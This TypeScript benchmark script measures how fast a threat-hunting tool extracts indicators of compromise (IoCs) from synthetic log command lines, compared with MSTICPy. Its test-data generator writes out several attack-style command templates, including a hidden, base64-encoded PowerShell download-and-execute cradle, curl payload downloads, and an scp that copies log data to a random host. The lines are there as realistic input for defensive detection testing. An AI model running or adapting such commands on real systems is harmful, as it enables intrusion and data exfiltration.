/**
 * `npm run bench -- ioc` (or `npx tsx bench/ioc.ts PYTHON`): IoC extraction over command lines, each size in a process of its
 * own (`ioc-run.ts`), 100 k and 1 M rows with memory; beside MSTICPy on the same lines when a Python that has it is given
 * (`bench/peers/ioc.py`), before and after ours, so that the ratio holds on a machine that others use too.
 */
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { complete } from "../src/base/completeness.js";
import { FrameStore } from "../src/frame/store.js";
import { bundled, median, reportOf, saveResult } from "./measure.js";
import type { IocRun } from "./ioc-run.js";

/** Numbers that are the same in every run. */
function generator(seed: number): (n: number) => number {
  let state = seed >>> 0;
  return n => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * n);
  };
}

/** Command lines as logs have them: services, downloads, encoded PowerShell, hashes, mail, shell, defanged reports. */
export function commandLines(count: number, seed = 1): string[] {
  const next = generator(seed);
  const pick = (list: readonly string[]): string => list[next(list.length)] ?? "";
  const words = "update install report sync backup agent loader config policy service client cache index audit".split(
    " ",
  );
  const w = () => pick(words);
  const host = () =>
    `${w()}${next(99)}.${w()}-${w()}.${pick(["com", "net", "org", "io", "co.uk", "ru", "top", "xyz"])}`;
  const ip = () => `${1 + next(223)}.${next(256)}.${next(256)}.${1 + next(254)}`;
  const url = () => `https://${host()}/${w()}/${w()}${next(9999)}.ps1${next(2) === 0 ? `?id=${next(1e6)}` : ""}`;
  const exe = () => `C:\\${pick(["Windows\\System32", "Program Files\\App", "ProgramData"])}\\${w()}\\${w()}.exe`;
  const hash = () =>
    createHash(pick(["md5", "sha1", "sha256"]))
      .update(String(next(1e9)))
      .digest("hex");
  const encoded = () =>
    Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${url()}')`, "utf16le").toString("base64");
  const kinds: readonly (() => string)[] = [
    ...Array<() => string>(6).fill(() => `"${exe()}" -k ${w()} -p -s ${w()}${next(99)} /quiet`),
    ...Array<() => string>(3).fill(() => `curl.exe -s -L ${url()} -o ${exe()}`),
    ...Array<() => string>(2).fill(
      () => `cmd.exe /c ping -n ${next(9)} ${ip()} > ${exe()}.log && net use \\\\${ip()}\\c$`,
    ),
    ...Array<() => string>(2).fill(() => `certutil -hashfile ${exe()} SHA256 & echo ${hash()} & echo ${hash()}`),
    () => `sendmail -t ${w()}.${w()}@${host()} -cc ${w()}@${host()} -a /usr/bin/${w()}.sh -relay ${host()}`,
    () => `powershell.exe -NoP -W Hidden -EncodedCommand ${encoded()}`,
    () => `wget hxxp://${host().replaceAll(".", "[.]")}/${w()} from ${ip().replaceAll(".", "[.]")}`,
    () => `bash -c 'cat /var/log/${w()}.log | grep ${w()} > /tmp/${w()}; scp /tmp/${w()} root@${ip()}:/tmp/${w()}'`,
    () =>
      `netsh interface portproxy add v4tov4 connectaddress=${ip()} connectaddress6=2001:db8:${1 + next(9998)}::${1 + next(9998)}`,
    () => `${w()}.exe ${w()} ${w()} /${w()} ${next(1e6)}`,
  ];
  return Array.from({ length: count }, () => (kinds[next(kinds.length)] as () => string)());
}

/** The lines as a Parquet file, which the measured process reads without making objects of them. */
async function writeLines(file: string, rows: number): Promise<void> {
  const store = await FrameStore.open({ memoryLimitBytes: 512 * 2 ** 20 });
  function* batches() {
    for (let at = 0; at < rows; at += 50_000) yield commandLines(Math.min(50_000, rows - at), at + 1).map(t => [t]);
  }
  const provenance = { source: "bench", ranAtMs: 0, tookMs: 0, clock: "system", clockDependent: false } as const;
  const info = { completeness: complete, provenance };
  const frame = await store.fromBatches([{ name: "CommandLine", type: "string" }], batches(), info);
  await frame.toParquet(file);
  await store.close();
}

interface Peer {
  readonly rowsPerSecond: number;
  readonly peakMiB: number;
  readonly observables: number;
}

const dir = mkdtempSync(join(tmpdir(), "huntbook-bench-ioc-"));
try {
  const python = process.argv[2] ?? process.env["HUNTBOOK_PEER_PYTHON"];
  const peerRows = 20_000;
  const json = join(dir, "lines.json");
  writeFileSync(json, JSON.stringify(commandLines(peerRows)));
  const askPeer = (): Peer[] => {
    if (python === undefined) return [];
    const child = spawnSync(python, [join(import.meta.dirname, "peers/ioc.py"), json], { encoding: "utf8" });
    return [reportOf<Peer>(child)];
  };
  const main = await bundled("ioc-run.ts");
  await bundled("../src/session/scan-thread-main.ts");
  const run = async (rows: number, times: number): Promise<IocRun> => {
    const file = join(dir, `${rows}.parquet`);
    await writeLines(file, rows);
    return reportOf<IocRun>(spawnSync(process.execPath, [main, file, String(times)], { encoding: "utf8" }));
  };
  const before = askPeer();
  const small = await run(100_000, 5);
  const peers = [...before, ...askPeer()];
  const large = await run(1_000_000, 1);
  const rowsPerSecond = Math.round(100_000 / small.seconds);
  console.log(
    `100,000 lines (${small.megabytes.toFixed(1)} MB), ${small.observables} observables: ${small.seconds.toFixed(2)} s, ${rowsPerSecond} rows/s, ${Math.round(100_000 / small.processorSeconds)} per processor second; peak ${small.filledMiB} MiB with the lines, ${small.peakMiB} after`,
  );
  console.log(
    `1,000,000 lines (${large.megabytes.toFixed(1)} MB): ${large.seconds.toFixed(1)} s, ${Math.round(1e6 / large.seconds)} rows/s; peak ${large.filledMiB} MiB with the lines, ${large.peakMiB} after`,
  );
  const figures: Record<string, number> = { rowsPerSecond };
  if (peers.length > 0) {
    const peerRate = median(peers.map(p => p.rowsPerSecond));
    const peerPeak = Math.min(...peers.map(p => p.peakMiB));
    figures["peerRowsPerSecond"] = peerRate;
    figures["ratio"] = rowsPerSecond / peerRate;
    figures["peerPeakMiB"] = peerPeak;
    console.log(
      `MSTICPy, ${peerRows.toLocaleString("en-US")} lines: ${peers.map(p => p.rowsPerSecond).join(" and ")} rows/s, peak ${peerPeak} MiB: ${(rowsPerSecond / peerRate).toFixed(0)} times slower`,
    );
  }
  saveResult("ioc", { ...figures, small, large });
} finally {
  rmSync(dir, { recursive: true, force: true });
}
